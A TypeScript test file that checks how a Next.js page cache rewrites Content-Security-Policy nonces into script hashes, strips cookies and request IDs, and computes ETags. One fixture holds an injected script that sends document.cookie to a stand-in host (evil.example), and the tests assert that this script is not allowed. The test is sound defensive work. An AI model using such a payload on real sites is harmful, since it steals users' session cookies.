import { createHash } from "node:crypto";
import { expect, it } from "vitest";
import { contentSecurityPolicy } from "@/lib/platform/http/page-security";
import { htmlOf, squeeze, toKeptPage } from "./kept-page";

const NONCE = "q83vEjRWeJq83vEjRWeJqw==";
const OWN = "self.__next_f.push([1,'<b>'])";
const INJECTED = "fetch('//evil.example/'+document.cookie)";
const HTML = `<!doctype html><html><head><script src="/_next/a.js" nonce="${NONCE}" async=""></script></head><body>
<a href="/products/blue-mug">Blue mug</a><a href="/products/gr%C3%BCne-tasse?variant=x">Grüne Tasse</a>
<div><script>${INJECTED}</script></div>
<script type="application/ld+json" nonce="${NONCE}">{"@type":"Product"}</script>
<script nonce="${NONCE}">${OWN}</script><script nonce="${NONCE}">push("{\\"nonce\\":\\"${NONCE}\\"}")</script></body></html>`;

const hashOf = (text: string) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`;
const headersOf = async (html = HTML) => {
  const { headers } = await toKeptPage(rendered(html));
  return new Map(headers.flatMap((name, i) => (i % 2 === 0 ? [[name, headers[i + 1] ?? ""] as const] : [])));
};
const rendered = (html = HTML) => ({
  status: 200,
  html,
  headers: {
    "content-type": "text/html; charset=utf-8",
    "content-security-policy": contentSecurityPolicy(NONCE, false),
    link: `</font.woff2>; rel=preload; as="font"; nonce="${NONCE}"`,
    "set-cookie": "aisle_shopper=somebody",
    "x-request-id": "1",
  },
});

it("lets those scripts run that the framework has written, and no other", async () => {
  const policy = (await headersOf()).get("content-security-policy") ?? "";
  expect(policy).toContain(`script-src 'self' ${hashOf(OWN)}`);
  expect(policy).toContain(hashOf('push("{\\"nonce\\":\\"\\"}")'));
  expect(policy).not.toContain(hashOf(INJECTED));
  expect(policy).not.toMatch(/nonce|strict-dynamic|unsafe-inline'[^;]*script/);
});

it("holds nothing of the answer it was made of", async () => {
  const page = await toKeptPage(rendered());
  const html = (await htmlOf(page)).toString();
  expect(html).not.toContain(NONCE);
  expect(html).toBe(HTML.replaceAll(` nonce="${NONCE}"`, "").replaceAll(NONCE, ""));
  const headers = await headersOf();
  expect([headers.has("set-cookie"), headers.has("x-request-id")]).toEqual([false, false]);
  expect(headers.get("link")).toBe('</font.woff2>; rel=preload; as="font"');
});

it("takes no more memory than its bytes", async () => {
  const page = await toKeptPage(rendered());
  for (const bytes of [page.compressed, (await squeeze(page)).compressed, await htmlOf(page)])
    expect(bytes.buffer.byteLength).toBe(bytes.length);
});

it("is known by what is in it, whatever it was rendered with", async () => {
  const [one, same] = [await toKeptPage(rendered()), await toKeptPage(rendered())];
  const other = await toKeptPage(rendered(HTML.replace("Blue mug", "Red mug")));
  expect(same.etag).toBe(one.etag);
  expect(other.etag).not.toBe(one.etag);
});

it("knows which products it speaks of", async () => {
  expect([...(await toKeptPage(rendered())).slugs]).toEqual(["blue-mug", "grüne-tasse"]);
});

it("is not made of a page whose scripts nothing tells from others", async () => {
  const page = { status: 200, html: HTML, headers: { "content-security-policy": "script-src 'self'" } };
  await expect(toKeptPage(page)).rejects.toThrow("nonce");
});
